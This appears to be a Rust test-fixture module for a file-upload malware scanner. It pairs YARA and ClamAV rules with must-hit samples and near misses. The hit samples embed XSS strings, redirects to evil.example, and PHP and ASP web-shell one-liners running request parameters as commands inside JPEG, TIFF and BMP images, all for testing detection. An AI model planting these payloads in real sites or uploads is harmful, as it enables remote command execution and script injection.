//! For each YARA rule one or more samples that it must hit, and near misses that it must not.
//!
//! A near miss is what an honest patient might send that looks a little like the thing. The same
//! samples serve every YARA engine, so that they can be shown to agree.

mod carriers;
mod commands;
mod documents;
mod images;
mod launchers;
mod lures;
pub mod pack;
mod scripts;
mod words;
pub(crate) mod wrapped;

use crate::fixtures::{FixtureError, WEB_SHELL, jpeg, png, programs, test_strings, texts, zip};

/// One file and what a rule must say about it.
#[derive(Clone, Debug)]
pub struct Sample {
    /// The rule's name.
    pub rule: &'static str,
    pub expected: Expected,
    /// Its number among the rule's samples of this kind.
    pub number: usize,
    pub bytes: Vec<u8>,
}

/// What a rule must do with a sample.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub enum Expected {
    Hit,
    Miss,
}

impl Sample {
    /// `RULE/hit-N` or `RULE/miss-N`.
    pub fn file_name(&self) -> String {
        let kind = match self.expected {
            Expected::Hit => "hit",
            Expected::Miss => "miss",
        };
        format!("{}/{kind}-{}", self.rule, self.number)
    }
}

/// Every sample of every rule.
pub fn all() -> Result<Vec<Sample>, FixtureError> {
    let mut all = Vec::new();
    let rules = [
        program_rules(),
        image_rules()?,
        images::rules()?,
        text_rules(),
        carriers::rules()?,
        documents::rules()?,
        scripts::rules()?,
        words::rules(),
        lures::rules(),
        words::links(),
        launchers::rules(),
        commands::rules(),
        wrapped::rules()?,
    ];
    for (rule, hits, misses) in rules.into_iter().flatten() {
        all.extend(numbered(rule, hits, misses));
    }
    Ok(all)
}

/// The same for each of our `ClamAV` signatures: hashes, bytes, and bytes joined by logic.
pub fn clamav() -> Vec<Sample> {
    let whole =
        |text: String| (vec![text.clone().into_bytes()], vec![format!("{text}\n").into_bytes()]);
    let [first, second] = test_strings::clamav_logical_test();
    let bytes = test_strings::clamav_canary();
    let signatures = [
        ("Sekisho.Canary.Hash", whole(test_strings::clamav_hash_canary())),
        ("Sekisho.Test.Sha256", whole(test_strings::clamav_sha256_test())),
        ("Eicar.Test.File", whole(test_strings::eicar())),
        (
            "Sekisho.Canary.Bytes",
            (
                vec![format!("before {bytes} after").into_bytes()],
                vec![bytes.to_ascii_lowercase().into_bytes()],
            ),
        ),
        (
            "Sekisho.Test.Logical",
            (
                vec![format!("{second} and {first}").into_bytes()],
                vec![first.into_bytes(), second.into_bytes()],
            ),
        ),
    ];
    signatures.into_iter().flat_map(|(rule, (hits, misses))| numbered(rule, hits, misses)).collect()
}

/// A rule's name, its must-hit files, its must-not-hit files.
type RuleSamples = (&'static str, Vec<Vec<u8>>, Vec<Vec<u8>>);

fn program_rules() -> Vec<RuleSamples> {
    vec![
        (
            "windows_program",
            vec![programs::windows()],
            files(&["MZ is how my neighbour signs.", "MZ"]),
        ),
        (
            "linux_program",
            vec![programs::linux()],
            vec![b"\x7fELF\x09\x09\x09".to_vec(), b"ELF".to_vec()],
        ),
        (
            "apple_program",
            vec![programs::apple(), b"\xca\xfe\xba\xbe\0\0\0\x02".to_vec()],
            files(&["cafebabe"]),
        ),
        (
            "shell_script",
            files(&["#!/bin/sh\n", "#! /usr/bin/env python3\n"]),
            files(&["#1 the rash\n#2 the fever\n", "see #!/bin/sh\n", "#!"]),
        ),
        (
            "windows_shortcut",
            vec![programs::shortcut()],
            vec![b"L\0\0\0\x01\x14\x02\0".to_vec(), b"L".to_vec()],
        ),
    ]
}

fn image_rules() -> Result<Vec<RuleSamples>, FixtureError> {
    let (photo, drawing) = (jpeg::plain()?, png::plain()?);
    let behind = |file: &[u8]| [photo.as_slice(), file].concat();
    let comment = |body: &[u8]| jpeg::with_segment(&photo, jpeg::COMMENT, body);
    let archive = zip(&[("run.bat", b"echo harmless")])?;
    let tiff = |file: &[u8]| [b"II*\0\x08\0\0\0".as_slice(), file].concat();
    let bitmap =
        |file: &[u8]| [b"BM\0\0\0\0\0\0\0\0\x36\0\0\0\x28\0\0\0".as_slice(), file].concat();
    let message = |file: &[u8]| [b"BMI and my questions: ".as_slice(), file].concat();
    Ok(vec![
        (
            "program_in_image",
            vec![
                behind(&programs::windows()),
                behind(&programs::linux()),
                behind(&programs::apple()),
                [drawing.as_slice(), &programs::linux()].concat(),
                comment(&programs::windows())?,
                behind(b"dex\n035\0"),
                behind(b"\0asm\x01\0\0\0"),
                tiff(&programs::windows()),
                [b"MM\0*\0\0\0\x08".as_slice(), &programs::linux()].concat(),
                bitmap(&programs::apple()),
            ],
            vec![
                tiff(b"MZ...PE\0\0"),
                bitmap(b"MZ...PE\0\0"),
                message(&programs::linux()),
                behind(b"MZ...PE\0\0\x7fELF\xcf\xfa\xed\xfe"),
                programs::windows(),
                drawing.clone(),
            ],
        ),
        (
            "script_in_image",
            vec![
                comment(b"<SCRIPT >alert(1)</SCRIPT>")?,
                behind(texts::MARKUP.as_bytes()),
                tiff(b"<script>alert(1)</script>"),
                bitmap(b"<script>alert(1)</script>"),
                comment(b"<details/open/ontoggle=alert(1)>")?,
                comment(b"<meta http-equiv=refresh content='0;url=https://evil.example/'>")?,
                comment(b"<embed src=https://evil.example/a>")?,
            ],
            vec![
                comment(b"my script: eat < sleep > repeat")?,
                texts::MARKUP.as_bytes().to_vec(),
                message(b"<script>alert(1)</script>"),
            ],
        ),
        (
            "php_in_image",
            vec![
                comment(b"<?php echo 1; ?>")?,
                comment(b"<?=$_GET[0]?>")?,
                comment(b"<?=`$_GET[0]`?>")?,
                tiff(b"<?= `id` ?>"),
                comment(b"<?\nsystem('id');\n?>")?,
            ],
            vec![
                // Grey pixels.
                bitmap(b"<=?<?=`bca"),
                comment(b"<?xpacket begin='' ?><?xml version='1.0'?><?= php")?,
                b"<?php echo 1;".to_vec(),
            ],
        ),
        (
            "web_shell_in_image",
            vec![
                comment(WEB_SHELL)?,
                comment(b"<?=system($_GET['c'])?>")?,
                comment(b"<%eval request(\"c\")%>")?,
            ],
            vec![comment(b"<?php echo 'eval'; ?>")?, comment(b"eval($_POST['c'])")?],
        ),
        (
            "archive_in_image",
            vec![behind(&archive), behind(b"Rar!\x1a\x07\x01\0"), comment(&archive)?],
            vec![behind(b"PK\x03\x04\xff\xff\xff\xff\xff\xff"), behind(b"PK"), archive.clone()],
        ),
        (
            "pdf_in_image",
            vec![comment(texts::PDF.as_bytes())?, behind(texts::PDF.as_bytes())],
            vec![comment(b"exported as %PDF-A, version 1.4")?, texts::PDF.as_bytes().to_vec()],
        ),
    ])
}

fn text_rules() -> Vec<RuleSamples> {
    vec![
        (
            "html_smuggling",
            files(&[texts::SMUGGLING]),
            files(&[texts::HONEST_DOWNLOAD, texts::PAGE]),
        ),
        (
            "sekisho_yara_canary",
            vec![test_strings::yara_canary().into_bytes()],
            vec![test_strings::clamav_canary().into_bytes()],
        ),
    ]
}

fn numbered(rule: &'static str, hits: Vec<Vec<u8>>, misses: Vec<Vec<u8>>) -> Vec<Sample> {
    let both = [(Expected::Hit, hits), (Expected::Miss, misses)];
    let each = both.into_iter().flat_map(|(expected, files)| {
        let numbered = (1..).zip(files);
        numbered.map(move |(number, bytes)| Sample { rule, expected, number, bytes })
    });
    each.collect()
}

fn files(texts: &[&str]) -> Vec<Vec<u8>> {
    texts.iter().map(|text| text.as_bytes().to_vec()).collect()
}
